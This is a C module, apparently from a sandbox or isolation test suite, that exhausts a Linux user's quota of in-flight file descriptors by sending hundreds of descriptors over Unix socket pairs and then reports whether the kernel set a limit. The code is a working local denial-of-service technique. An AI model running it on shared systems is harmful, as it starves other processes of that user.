/* What the kernel counts for each user, used up: everybody else who has the same user is short of it. */
#define _GNU_SOURCE
#include "attacker.h"

#include <fcntl.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/uio.h>

#define MAX_PAIRS 256
/* Most descriptors beside one message (SCM_MAX_FD). */
#define DESCRIPTORS 253
/* How long it is held, in seconds. */
#define HOLD 2

/* Descriptors that were sent and not received: a user may have as many as a process may have open. Beyond,
   nobody of that user can send one. */
static long fill_sockets(const struct target *unused)
{
    struct rlimit limit;
    char space[CMSG_SPACE(sizeof(int) * DESCRIPTORS)], byte = 0;
    int file = open("/proc/self/exe", O_RDONLY), refused = 0;
    long sent = 0;
    (void)unused;
    getrlimit(RLIMIT_NOFILE, &limit);
    limit.rlim_cur = limit.rlim_max;
    setrlimit(RLIMIT_NOFILE, &limit);
    for (int pair = 0; pair < MAX_PAIRS && !refused; pair++) {
        int ends[2];
        if (socketpair(AF_UNIX, SOCK_SEQPACKET | SOCK_NONBLOCK, 0, ends) != 0)
            break;
        for (;;) {
            struct iovec part = {&byte, 1};
            struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1};
            message.msg_control = space;
            message.msg_controllen = sizeof space;
            struct cmsghdr *header = CMSG_FIRSTHDR(&message);
            *header = (struct cmsghdr){CMSG_LEN(sizeof(int) * DESCRIPTORS), SOL_SOCKET, SCM_RIGHTS};
            for (int i = 0; i < DESCRIPTORS; i++)
                memcpy(CMSG_DATA(header) + i * sizeof(int), &file, sizeof(int));
            if (sendmsg(ends[0], &message, MSG_NOSIGNAL) < 0) {
                refused = errno != EAGAIN;
                break;
            }
            sent += DESCRIPTORS;
        }
    }
    add_detail("%ld descriptors, %s", sent, refused ? strerrorname_np(errno) : "no limit");
    sleep(HOLD);
    return 0;
}

void attack_user_limits(void)
{
    static const struct named_attempt attempts[] = {{"descriptors in flight", fill_sockets}};
    try_all("own", attempts, LENGTH(attempts), NULL);
}
